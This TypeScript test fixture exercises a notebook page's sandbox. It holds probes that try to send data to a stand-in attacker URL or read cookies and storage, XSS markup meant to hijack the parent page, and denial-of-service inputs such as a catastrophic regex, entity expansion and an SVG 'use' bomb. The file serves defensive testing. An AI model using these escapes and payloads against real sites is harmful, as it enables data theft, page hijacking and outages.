/**
 * Cells that try to get out, to take the page down, or to show more than their box: what the isolation must
 * bear in every engine. The sources are JavaScript as a reader might type it.
 */
import type { Attacker } from './attacker.ts';

/** Where the probes aim: someone else's machine and the site itself. */
export interface Targets {
  attacker: Pick<Attacker, 'url' | 'port'>;
  /** The site's address, with a final slash. */
  site: string;
}

/**
 * Every way out that a worker or a page has. Each entry is an expression or statements with `return`; it must
 * throw, reject, or come to nothing.
 */
export function waysOut({ attacker: { url, port }, site }: Targets): Record<string, string> {
  const host = `127.0.0.1:${port}`;
  const network = (global: string) => ({
    'cross-site fetch': `return ${global}.fetch('${url}fetch')`,
    'fetch of the site': `return ${global}.fetch('${site}favicon.svg?stolen')`,
    'fetch without CORS': `return ${global}.fetch('${url}no-cors', { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })`,
    XMLHttpRequest: `const x = new ${global}.XMLHttpRequest(); x.open('GET', '${url}xhr', false); x.send(); return x.status`,
    WebSocket: `return event(new ${global}.WebSocket('ws://${host}/socket'), 'open')`,
    WebSocketStream: `return new ${global}.WebSocketStream('ws://${host}/stream').opened`,
    EventSource: `return event(new ${global}.EventSource('${url}events'), 'open')`,
    WebTransport: `return new ${global}.WebTransport('https://${host}/transport').ready`,
    RTCPeerConnection: `const peer = new ${global}.RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }); peer.createDataChannel('x'); return peer.setLocalDescription(await peer.createOffer())`,
    sendBeacon: `return ${global}.navigator.sendBeacon('${url}beacon', 'x')`,
    importScripts: `return ${global}.importScripts('${url}script.js')`,
    'importScripts of the site': `return ${global}.importScripts('${site}stolen-by-a-cell.js')`,
    'importScripts of a data: address': `${global}.importScripts('data:text/javascript,1'); return 'loaded'`,
    FontFace: `return new ${global}.FontFace('x', 'url(${url}font.woff2)').load()`,
    'nested worker': `return event(new ${global}.Worker('${url}worker.js'), 'message')`,
    'nested worker of the site': `return event(new ${global}.Worker('${site}stolen-by-a-cell.js'), 'message')`,
    SharedWorker: `return new ${global}.SharedWorker('${url}shared.js').port`,
    'service worker': `return ${global}.navigator.serviceWorker.register('${site}stolen-by-a-cell.js')`,
    'push by notification': `return new ${global}.Notification('x', { icon: '${url}icon.png' }).title`,
    'location change': `${global}.location.href = '${url}location'; if (${global}.location?.href?.startsWith?.('${url}')) return 'moved'`,
    'background fetch': `return ${global}.registration.backgroundFetch.fetch('x', ['${url}background'])`,
  });
  const storage = (global: string) => ({
    'indexedDB.open': `return event(${global}.indexedDB.open('separable'), 'success')`,
    'indexedDB.databases': `return ${global}.indexedDB.databases()`,
    caches: `return ${global}.caches.keys()`,
    'caches.add': `return (await ${global}.caches.open('x')).add('${url}cache')`,
    locks: `return ${global}.navigator.locks.request('x', () => 'locked')`,
    'private files': `return ${global}.navigator.storage.getDirectory()`,
    'storage estimate': `return ${global}.navigator.storage.persisted()`,
    localStorage: `return ${global}.localStorage.getItem('theme') + 'x'`,
    sessionStorage: `return ${global}.sessionStorage.getItem('x') + 'x'`,
    cookies: `return ${global}.document.cookie`,
    cookieStore: `return ${global}.cookieStore.getAll()`,
    BroadcastChannel: `const c = new ${global}.BroadcastChannel('separable'); c.postMessage('x'); return c.name`,
  });
  const page = (global: string) => ({
    parent: `${global}.parent.postMessage('child-ready', '*'); return 'sent'`,
    'top.location': `${global}.top.location = '${url}top'; return 'moved'`,
    'open()': `return ${global}.open('${url}open')`,
    'document.write': `${global}.document.write('<img src="${url}image">'); return 'written'`,
    Image: `new ${global}.Image().src = '${url}image'; return 'asked'`,
  });
  return {
    ...network('globalThis'),
    ...storage('globalThis'),
    ...page('globalThis'),
    'import of a data: address': `return (0, eval)("import('data:text/javascript,export default 1')")`,
    'import of a blob': `const blob = URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })); return (0, eval)("import(" + JSON.stringify(blob) + ")")`,
    'import through eval': `return (0, eval)("import('${url}eval.js')")`,
    'import through Function': `return new Function("return import('${url}function.js')")()`,
    'import through the async constructor': `return (async () => {}).constructor("return import('${url}async.js')")()`,
    'fetch through the async constructor': `return (async () => {}).constructor("return fetch('${url}async')")()`,
    'fetch through a generator constructor': `return (function* () {}).constructor("yield fetch('${url}generator')")().next().value`,
    'fetch through the constructor of constructors': `return [].filter.constructor("return this.fetch('${url}constructor')")()`,
    'fetch through Reflect': `return Reflect.construct(Function, ["return fetch('${url}reflect')"])()`,
    'fetch of the prototype chain': `let o = globalThis; while ((o = Object.getPrototypeOf(o))) if (o.fetch) return o.fetch.call(globalThis, '${url}chain')`,
    'streaming WASM': `return WebAssembly.compileStreaming(new Response(''))`,
    'a canvas filter by address': `const c = new OffscreenCanvas(8, 8).getContext('2d'); c.filter = 'url(${url}filter.svg#f)'; c.fillRect(0, 0, 8, 8)`,
    'a canvas font by address': `const c = new OffscreenCanvas(8, 8).getContext('2d'); c.font = '12px url(${url}font)'; c.fillText('x', 0, 8)`,
    'a picture of an SVG that loads another': `return createImageBitmap(new Blob(['<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${url}svg.png" width="9" height="9"/></svg>'], { type: 'image/svg+xml' }))`,
    'a source map': `(0, eval)("1\\n//# sourceMappingURL=${url}map.json")`,
    'a source address': `(0, eval)("throw new Error('x')\\n//# sourceURL=${url}source.js")`,
  };
}

/** One cell that tries all of them at once and prints `{name: outcome}` as JSON. */
export function probeCell(ways: Record<string, string>): string {
  const entries = Object.entries(ways).map(
    ([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`,
  );
  return `const event = (target, name) => new Promise((resolve, reject) => {
  target['on' + name] = () => resolve(name)
  target.onerror = () => reject(new Error('error event'))
})
const ways = {
${entries.join(',\n')}
}
const outcome = {}
await Promise.all(Object.entries(ways).map(async ([name, go]) => {
  try {
    const got = await Promise.race([go(), new Promise((resolve) => setTimeout(resolve, 2000, undefined))])
    outcome[name] = got === undefined ? 'nothing' : 'GOT ' + typeof got
  } catch (error) {
    outcome[name] = 'refused'
  }
}))
console.log(JSON.stringify(outcome))`;
}

/**
 * Goes through everything that can be reached from a cell, by properties, prototypes, accessors and by what the
 * allowed constructors make, and prints the names of functions that reach out.
 */
export const reachCell = `const found = new Set()
const banned = new Set(['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'importScripts', 'Worker',
  'SharedWorker', 'postMessage', 'MessagePort', 'MessageChannel', 'BroadcastChannel', 'addEventListener', 'dispatchEvent',
  'open', 'reportError', 'createObjectURL', 'FontFace', 'sendBeacon', 'requestAnimationFrame', 'Request',
  'Response', 'WorkerGlobalScope', 'DedicatedWorkerGlobalScope', 'register', 'getDirectory'])
const seen = new Set()
const queue = [globalThis, function* () {}, async () => {}, async function* () {}, new Error('x'), /x/g, Symbol.iterator]
const make = (text) => { try { queue.push((0, eval)(text)) } catch {} }
for (const text of ["new OffscreenCanvas(2, 2)", "new OffscreenCanvas(2, 2).getContext('2d')", "new Blob(['x'])",
  "new Blob(['x']).stream()", "new Blob(['x']).stream().getReader()", "new WebAssembly.Memory({ initial: 1 })",
  "new Path2D()", "new URL('http://x/')", "new TextDecoder()", "new ImageData(1, 1)", "new DOMException('x')",
  "structuredClone(new Error('x'))", "new Intl.NumberFormat()", "(function () { return arguments })()",
  "new OffscreenCanvas(2, 2).transferToImageBitmap()", "performance", "crypto", "navigator"]) make(text)
while (queue.length) {
  const value = queue.pop()
  if (value === null || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value)) continue
  seen.add(value)
  try {
    if (typeof value === 'function') {
      const name = Object.getOwnPropertyDescriptor(value, 'name')?.value
      if (banned.has(name) && /\\[native code\\]/.test(Function.prototype.toString.call(value))) found.add(name)
    }
    queue.push(Object.getPrototypeOf(value))
    for (const key of Reflect.ownKeys(value)) {
      const d = Object.getOwnPropertyDescriptor(value, key)
      queue.push(d?.value, d?.get, d?.set)
      if (typeof key === 'string' && banned.has(key) && value !== globalThis) found.add('.' + key)
    }
  } catch {}
}
console.log(JSON.stringify({ looked: seen.size, found: [...found] }))`;

/** Cells that never come to an end by themselves: the page stays awake and Stop ends them. */
export const endless: Record<string, string> = {
  'while (true)': 'while (true) {}',
  'a storm of microtasks':
    'const storm = () => Promise.resolve().then(storm)\nawait storm()\nawait new Promise(() => {})',
  'an await that never settles': 'await new Promise(() => {})',
  'ten thousand intervals':
    'for (let i = 0; i < 1e4; i++) setInterval(() => { for (let j = 0; j < 1e4; j++); }, 0)\nawait new Promise(() => {})',
  'an endless iterator': 'table({ *[Symbol.iterator]() { while (true) yield { a: 1 } } })',
  'a wait in WASM': `const wasm = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 102, 0, 0, 10, 9, 1, 7, 0, 3, 64, 12, 0, 11, 11])
new WebAssembly.Instance(new WebAssembly.Module(wasm)).exports.f()`,
  'backtracking of a regular expression': "/^(a+)+$/.test('a'.repeat(60) + 'b')",
  'a description that never ends': "({ [Symbol.for('separable.mime')]() { while (true) {} } })",
};

/** Cells that end by themselves, in whatever way; afterwards a fresh cell runs without a Stop. */
export const violent: Record<string, string> = {
  'a million logs': "for (let i = 0; i < 1e6; i++) console.log('spam', i)",
  'a million displays of one id': "for (let i = 0; i < 1e6; i++) display(i, { id: 'x' })",
  'string doubling': "let s = 'x'\nwhile (true) s += s",
  'deep recursion': 'const f = () => f() + 1\nf()',
  'a deep object': 'let o = {}\nfor (let i = 0; i < 1e5; i++) o = { o }\no',
  'an array that is too long': 'new Array(2 ** 32)',
  'a memory of WASM that is too large': 'new WebAssembly.Memory({ initial: 65537 })',
  'a hundred thousand rejections': "for (let i = 0; i < 1e5; i++) Promise.reject(new Error('stray'))",
  'JSON, String and Promise redefined':
    "for (const name of ['JSON', 'String', 'Promise', 'Object', 'Array', 'Map']) try { globalThis[name] = () => { throw 1 } } catch {}\nfor (const p of [JSON, Promise.prototype, Array.prototype, Object.prototype, Map.prototype]) for (const k of Reflect.ownKeys(p)) try { p[k] = () => { throw 2 } } catch {}\n'survived'",
  'a polluted Object.prototype':
    "for (const key of ['parent', 'type', 'data', 'cell', 'then', 'get', 'value', 'toJSON', '0']) try { Object.defineProperty(Object.prototype, key, { get() { while (true) {} } }) } catch {}\n'survived'",
  'setters on globalThis':
    "for (const key of ['x', 'onmessage', 'onerror', 'postMessage', 'self', 'console']) try { Object.defineProperty(globalThis, key, { set() { while (true) {} }, get() { while (true) {} } }) } catch {}\n'survived'",
  'getters on MessageEvent':
    "try { Object.defineProperty(MessageEvent.prototype, 'data', { get() { while (true) {} } }) } catch {}\n'survived'",
  'an error with throwing getters':
    "const e = new Error('x')\nfor (const k of ['name', 'message', 'stack', 'cause', 'toString', 'constructor']) Object.defineProperty(e, k, { get() { throw e } })\nthrow e",
  'an error whose stack is a proxy':
    "const e = new Error('x')\ne.stack = new Proxy(() => {}, { get() { throw 1 }, apply() { throw 2 } })\nthrow e",
  prepareStackTrace: 'try { Error.prepareStackTrace = () => { while (true) {} } } catch {}\nnull.x',
  'a thrown null': 'throw null',
  'a thrown symbol': "throw Symbol('x')",
  'a thrown proxy':
    'throw new Proxy({}, { get() { throw 1 }, getPrototypeOf() { throw 2 }, ownKeys() { throw 3 }, has() { throw 4 } })',
  'a thrown revoked proxy': 'const { proxy, revoke } = Proxy.revocable({}, {})\nrevoke()\nthrow proxy',
  'a revoked proxy as the value': 'const { proxy, revoke } = Proxy.revocable({}, {})\nrevoke()\nproxy',
  'a value that cannot be cloned':
    'new Map([[() => 1, Symbol.iterator], [new WeakMap(), new Proxy({}, {})]])',
  'a thenable that throws': '({ get then() { throw new Error("then") } })',
  'a value with a wild species':
    'class Wild extends Array { static get [Symbol.species]() { throw new Error("species") } }\nWild.from([{ a: 1 }, { a: 2 }])',
  'wild primitives':
    '({ [Symbol.toPrimitive]() { throw 1 }, toString() { throw 2 }, valueOf() { throw 3 }, get [Symbol.toStringTag]() { throw 4 } })',
  'names that objects have':
    'const __proto__ = 1, constructor = 2, hasOwnProperty = 3, toString = 4, valueOf = 5\n[constructor, toString]',
  'callers of sloppy functions':
    "const peek = new Function('let f = peek; const seen = []; return 0')\nconst sloppy = new Function('return arguments.callee.caller')\nconst got = ({ [Symbol.for('separable.mime')]: new Function('const c = arguments.callee.caller; if (c) throw new Error(\"caller: \" + c); return { \"text/plain\": \"survived\" }') })\ngot",
};

const bundle = (content: string) => `({ [Symbol.for('separable.mime')]: ${content} })`;
const attack =
  '<img src=x onerror="document.title=\\\'stolen\\\'"><style>body{display:none!important}</style><b class=injected>injected</b>';

/** Values that claim a format and are none: the page must show text or nothing, never their markup. */
export const forgedBundles: Record<string, string> = {
  'progress that is markup': bundle(
    `{ 'text/plain': 'p', 'application/vnd.separable.progress+json': { value: '">${attack}', total: '">${attack}' } }`,
  ),
  'a tensor of markup': bundle(
    `{ 'text/plain': 't', 'application/vnd.separable.tensor+json': { shape: [1, 2], data: ['${attack}', '${attack}'], min: 0, max: 1, mean: 0 } }`,
  ),
  'a tensor whose shape is markup': bundle(
    `{ 'text/plain': 't', 'application/vnd.separable.tensor+json': { shape: ['${attack}'], data: [1], min: '${attack}', max: '${attack}', mean: '${attack}' } }`,
  ),
  'a tensor with a shape of billions': bundle(
    `{ 'text/plain': 't', 'application/vnd.separable.tensor+json': { shape: [1, 1, 4e9], data: [1], min: 0, max: 1, mean: 0 } }`,
  ),
  'a slider of markup': bundle(
    `{ 'text/plain': 'i', 'application/vnd.separable.input+json': { input: 'range', index: '">${attack}', declared: '${attack}', label: '${attack}', min: '">${attack}', max: '">${attack}', step: '">${attack}', value: '">${attack}' } }`,
  ),
  'a menu of markup': bundle(
    `{ 'text/plain': 'i', 'application/vnd.separable.input+json': { input: 'select', index: 0, declared: '${attack}', label: '${attack}', options: ['${attack}', { toString: 1 }], value: 0 } }`,
  ),
  'a list of boxes that is no list': bundle(
    `{ 'text/plain': 'i', 'application/vnd.separable.input+json': { input: 'checkbox', index: 0, declared: 'd', label: 'x', options: 'xyz', value: 7 } }`,
  ),
  'a table of markup': bundle(
    `{ 'text/plain': 't', 'application/vnd.separable.table+json': { columns: ['${attack}'], rows: [['${attack}'], [{ a: '${attack}' }]], total: '${attack}' } }`,
  ),
  'a table without rows': bundle(
    `{ 'text/plain': 't', 'application/vnd.separable.table+json': { columns: 7, rows: null, total: null } }`,
  ),
  'a PNG of markup': bundle(`{ 'text/plain': 'p', 'image/png': '">${attack}' }`),
  'an SVG that ends its attribute': bundle(
    `{ 'text/plain': 's', 'image/svg+xml': '">${attack}<svg width="1" height="1">' }`,
  ),
  'a figure of no name': bundle(
    `{ 'text/plain': 'f', 'application/vnd.separable.figure+json': { name: '__proto__', props: {} } }`,
  ),
  'a figure of markup': bundle(
    `{ 'text/plain': 'f', 'application/vnd.separable.figure+json': { name: 'tensor', props: { tensor: '${attack}', label: '${attack}' } } }`,
  ),
  'a plot of no version': bundle(
    `{ 'text/plain': 'p', 'application/vnd.separable.plot+json': { version: 99, marks: '${attack}' } }`,
  ),
  'a plot of unknown parts': bundle(
    `{ 'text/plain': 'p', 'application/vnd.separable.plot+json': { version: 1, title: '${attack}', subtitle: '${attack}', caption: '${attack}', data: [], options: {}, marks: [{ mark: 'constructor', args: [] }] } }`,
  ),
  'text that is no text': bundle(`{ 'text/plain': { toString: 1 }, 'text/html': 7, 'text/latex': {} }`),
};

/** Outputs that reach for the network or out of their box, by the formats that are meant for markup. */
export function hostileOutputs({ attacker: { url }, site }: Targets): Record<string, string> {
  return {
    'HTML with scripts':
      'html`<script>parent.document.title = "stolen"</script><img src=x onerror="parent.document.title=\'stolen\'"><svg onload="parent.document.title=\'stolen\'"></svg><iframe srcdoc="<script>top.document.title=\'stolen\'</script>"></iframe><body onload="top.document.title=\'stolen\'">`',
    'HTML with a global style':
      'html`<style>* { display: none !important; position: fixed; inset: 0; z-index: 2147483647 }</style><div style="position:fixed;inset:0;background:red;width:9999px;height:9999px">over</div>`',
    'HTML that loads': `html\`<img src="${url}img"><img srcset="${url}srcset 2x"><picture><source srcset="${url}source"><img></picture><link rel=stylesheet href="${url}css"><link rel=icon href="${url}icon"><link rel=preload as=image href="${url}preload"><link rel=prefetch href="${url}prefetch"><link rel=modulepreload href="${url}m.js"><style>@import "${url}import"; @font-face { font-family: f; src: url(${url}font) } b { background: url(${url}bg); font-family: f }</style><b style="list-style-image:url(${url}list);cursor:url(${url}cursor),auto">b</b><video src="${url}video" poster="${url}poster" autoplay></video><audio src="${url}audio" autoplay></audio><object data="${url}object"></object><embed src="${url}embed"><iframe src="${url}frame"></iframe><svg><image href="${url}image"/><use href="${url}use#x"/><rect width=9 height=9 fill="url(${url}fill#x)" filter="url(${url}filter#f)"/></svg><input type=image src="${url}input"><table background="${url}table"></table>\``,
    'HTML that connects': `html\`<link rel=preconnect href="${url}"><link rel=dns-prefetch href="${url}"><link rel="preconnect" crossorigin href="${url}">\``,
    'HTML that moves': `html\`<meta http-equiv=refresh content="0;url=${url}refresh"><base href="${url}base/" target=_top><a id=a href=x>link</a>\``,
    'HTML that loads from the site': `html\`<img src="${site}favicon.svg?from-output"><link rel=stylesheet href="${site}x.css?from-output"><iframe src="${site}?from-output"></iframe>\``,
    'HTML that ends its attribute': `html\`\${html\`"></iframe><b class=injected>injected</b><img src="${url}broken">\`}\``,
    'HTML over its window':
      'html`<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">over</div><div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px;background:red">over</div>`',
    'HTML that embeds': `html\`<object data="${url}object" type="text/html"><embed src="${url}embed"></object><iframe src="${url}frame"></iframe><iframe srcdoc="<img src=${url}inner>"></iframe><frameset><frame src="${url}frameset"></frameset><portal src="${url}portal"></portal>\``,
    'SVG with scripts':
      'svg`<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50" onload="top.document.title=\'stolen\'"><script>top.document.title = "stolen"</script><foreignObject width="50" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><script>top.document.title="stolen"</script><iframe src="javascript:top.document.title=1"></iframe></body></foreignObject></svg>`',
    'SVG that loads': `svg\`<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><style>@import "${url}import"; rect { fill: url(${url}style#x) }</style><image href="${url}image" width="9" height="9"/><use href="${url}use#x"/><rect width="9" height="9" fill="url(${url}fill#x)" filter="url(${url}filter#f)" mask="url(${url}mask#m)"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${url}foreign"/></foreignObject></svg>\``,
    'SVG that expands entities':
      'svg`<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&c;</text></svg>`',
    'LaTeX with links and classes': `tex\`\\href{javascript:alert(1)}{x}\\url{${url}url}\\includegraphics{${url}tex.png}\\htmlClass{injected}{y}\\htmlStyle{position:fixed}{z}\\htmlData{cell-id=equal}{w}\``,
    'a plot with addresses': `Plot.plot({ className: 'injected', style: { background: 'url(${url}plot-style)', position: 'fixed' }, marks: [Plot.dot([[1, 2]], { fill: 'url(${url}plot-fill#x)', href: () => 'javascript:alert(1)', target: '_top', title: () => '${attack}' }), Plot.text([[1, 2]], { text: () => '${attack}' })], title: '${attack}', caption: '${attack}' })`,
  };
}

/** A billion elements from a thousand characters. */
const REPEATED = `svg([\`<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><defs><g id="a0"><rect width="1" height="1"/></g>\${[1, 2, 3, 4, 5, 6, 7, 8, 9].map((i) => '<g id="a' + i + '">' + ('<use href="#a' + (i - 1) + '"/>').repeat(10) + '</g>').join('')}</defs><use href="#a9"/></svg>\`])`;

/** Outputs far larger than a page; the page stays awake and as wide as it was. */
export const hugeOutputs: Record<string, string> = {
  'HTML as high as a mountain': 'html`<div style="height:1000000000px;width:1000000000px">x</div>`',
  'HTML that is nested deeply': "html`${html([`${'<div>'.repeat(3e3)}x`])}`",
  'HTML of tables in tables': "html`${html([`${'<table><tr><td>'.repeat(200)}x`])}`",
  'SVG that repeats itself': `svg\`\${${REPEATED}}\``,
  'HTML with SVG that repeats itself': `html\`\${${REPEATED}}\``,
  'a very wide table': '[Object.fromEntries(Array.from({ length: 2000 }, (_, i) => ["column" + i, i]))]',
  'a large table':
    'Array.from({ length: 1000 }, (_, r) => Object.fromEntries(Array.from({ length: 300 }, (_, c) => ["c" + c, r * c])))',
  'a table of one long word': "[{ word: 'x'.repeat(1e5) }]",
  'a huge picture':
    'svg`<svg xmlns="http://www.w3.org/2000/svg" width="9999999" height="9999999"><rect width="100%" height="100%"/></svg>`',
  'a formula as wide as a street':
    'tex`\\rule{99999em}{99999em}\\kern{-9999em}\\raisebox{9999em}{x}\\hspace{-999em}y`',
  'a formula that climbs out of its line':
    'tex`\\raisebox{-40em}{\\Huge\\colorbox{red}{FAKE}}\\llap{\\Huge FAKE FAKE FAKE FAKE FAKE FAKE FAKE FAKE}\\smash{\\raisebox{30em}{\\Huge FAKE}}`',
  'a formula that is nested deeply': "tex`${'{'.repeat(20000)}x${'}'.repeat(20000)}`",
  'a formula that expands itself': 'tex`\\def\\a{\\a\\a}\\a`',
  'a slider with an endless label': "view(Inputs.range([0, 1], { label: 'x'.repeat(1e5) }))",
  'a menu with endless options': "view(Inputs.select(['x'.repeat(1e5), 'y'], { label: 'm' }))",
  'text of a hundred thousand lines': "'\\n'.repeat(1e5)",
  'one line of two hundred thousand characters': "'x'.repeat(2e5)",
  'a tensor of rank nine': 'zeros([2, 2, 2, 2, 2, 2, 2, 2, 2])',
  'a tensor of many sheets': 'zeros([1, 1, 60000])',
  'a plot wider than a screen':
    'Plot.plot({ width: 1e6, height: 1e6, marginLeft: 1e5, marks: [Plot.dot([[1, 2]])] })',
  'a plot of many points':
    'Plot.plot({ marks: [Plot.dot(Array.from({ length: 3e4 }, (_, i) => [i, i % 97]))] })',
  'letters with a tower of marks': "'a' + '\\u0301'.repeat(5000)",
  'an error with an endless name': "const e = new Error('x'.repeat(1e6))\ne.name = 'N'.repeat(1e6)\nthrow e",
};
